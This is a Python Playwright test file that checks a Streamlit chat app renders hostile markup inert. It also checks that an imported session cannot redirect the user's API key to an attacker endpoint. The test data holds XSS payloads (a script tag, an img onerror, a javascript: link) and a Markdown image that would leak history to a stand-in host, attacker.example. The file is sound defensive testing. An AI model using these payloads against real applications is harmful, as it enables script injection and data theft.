"""Hostile markup in a real browser: a message or a reply carrying script never runs, an image never loads.

The payload sets `window.__pwned` three ways (a <script>, an <img onerror>, a javascript: link) and
points a Markdown image at a tracker; the app talks to a local OpenAI-compatible server that
answers with the same payload.
"""

import re

import pytest
from playwright.sync_api import expect

from lib.backends.embedded import free_port
from lib.context.conversation import Message
from lib.store.session import Session, export_json
from tests.app.test_hostile_input import HOSTILE
from tests.e2e.conftest import ROOT, start_app
from tests.e2e.test_chat_browser import send, wait_for_messages
from tests.fake_openai import FakeOpenAI

pytestmark = [pytest.mark.slow, pytest.mark.e2e]
MARKDOWN_ONLY = "![tracker](https://attacker.example/p.png?q=history) [a link](javascript:window.__pwned=3) **bold**"


def use_compatible_server(page, base_url: str) -> None:
    page.locator('[data-testid="stSelectbox"]').filter(has_text="Provider").click()
    page.get_by_role("option", name="OpenAI-compatible URL").click()
    field = page.get_by_role("textbox", name="Base URL")
    field.fill(base_url)
    field.press("Enter")
    page.locator('[data-testid="stSelectbox"]').filter(has_text=re.compile("^Model")).click()
    page.get_by_role("option", name="fake-model", exact=True).click()
    page.get_by_text("fake-model's 8,192-token window").wait_for()


def test_script_onerror_and_images_in_messages_and_replies_stay_inert(page):
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    messages = page.locator('[data-testid="stChatMessage"]')
    with FakeOpenAI() as server:
        use_compatible_server(page, server.base_url)
        for count, text in ((2, HOSTILE), (4, MARKDOWN_ONLY)):
            server.behaviour.reply = text
            send(page, text)
            wait_for_messages(page, count)
            messages.nth(count - 1).get_by_text("tracker](https://attacker.example").first.wait_for()  # the reply
            assert server.requests[-1].json()["messages"][-1]["content"] == text  # sent as typed

    assert page.evaluate("window.__pwned") is None  # nothing ran
    for index in range(4):  # the questions and the answers
        message = messages.nth(index)
        assert "tracker](https://attacker.example/p.png?q=history)" in message.inner_text()  # the image as text
        assert message.locator("script, img[onerror], iframe, object, embed").count() == 0
        hrefs = message.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href') || '')")
        assert not [href for href in hrefs if href.strip().lower().startswith("javascript:")]
    for index in (0, 1):  # with raw HTML in it, Streamlit shows the whole text as it is
        assert "<script>window.__pwned = 1</script>" in messages.nth(index).inner_text()
        shown = messages.nth(index).inner_text()
        assert "![tracker](https://attacker.example" in shown.replace("\u2060", "")  # as typed: no stray backslash
        assert "!\\[" not in shown
    for index in (2, 3):  # Markdown alone is rendered: bold is bold, the image is still text
        expect(messages.nth(index).locator("strong").filter(has_text="bold")).to_have_count(1)
    assert page.locator('img[src*="attacker.example"]').count() == 0
    assert not [url for url in requested if "attacker.example" in url]  # no image fetched


def _wait_for_the_rerun(page) -> None:
    page.locator('[data-testid="stStatusWidget"]').wait_for(state="hidden")


def test_an_imported_session_calls_nothing_and_gets_no_key(page):
    key = "sk-proj-E2EEXFIL-0123456789abcdefXYZ"
    session = Session(
        "shared-notes",
        "Shared notes",
        messages=(Message("user", "hello"),),
        settings={"provider_kind": "compatible", "compatible_model": "fake-model"},
    )
    with FakeOpenAI() as attacker:
        page.locator('[data-testid="stSelectbox"]').filter(has_text="Provider").click()
        page.get_by_role("option", name="OpenAI", exact=True).click()
        field = page.locator('input[aria-label="API key"]')
        field.fill(key)
        field.press("Enter")
        _wait_for_the_rerun(page)
        session = Session(**{**session.__dict__, "settings": {**session.settings, "base_url": attacker.base_url}})
        upload = page.locator('[data-testid="stFileUploaderDropzoneInput"]')
        upload.set_input_files(
            files=[{"name": "notes.json", "mimeType": "application/json", "buffer": export_json(session).encode()}]
        )
        page.get_by_text("Imported Shared notes").wait_for()
        page.get_by_label("Your message").fill("a draft: another rerun")
        # Leaving the field commits the draft (a rerun, the meter counting it); Ctrl+Enter would send it,
        # to the URL the sidebar shows, without the key (tests/app/test_keys_and_endpoints.py).
        page.get_by_label("Your message").press("Tab")
        _wait_for_the_rerun(page)
        assert attacker.requests == []  # no /models probe, no call of any kind
        page.get_by_text("Enter the key for this endpoint").wait_for()
        assert page.locator('input[aria-label="API key (optional)"]').input_value() == ""


def test_every_inert_form_loads_no_image_wherever_markdown_is_read(browser):
    with FakeOpenAI() as tracker:  # records every request: an image fetch is a GET to it
        port = free_port()
        process = start_app(
            port, {"TRACKER": tracker.base_url, "PYTHONPATH": str(ROOT)}, "tests/e2e/inert_labels_app.py"
        )
        context = browser.new_context()
        try:
            page = context.new_page()
            page.goto(f"http://127.0.0.1:{port}")
            page.get_by_text("DONE-DRAWING").wait_for()
            page.wait_for_function(
                "() => [...document.images].every(image => image.complete)"
            )  # the control image has been fetched (or failed)
            fetched = [r.path for r in tracker.requests]
            assert fetched == ["/v1/control.png"]  # the watch works, and nothing else was fetched
            shown = page.locator('[data-testid="stMain"]').inner_text()
            assert "![a](" + tracker.base_url in shown  # the text, shown as it is
        finally:
            context.close()
            process.terminate()
            process.wait(timeout=20)
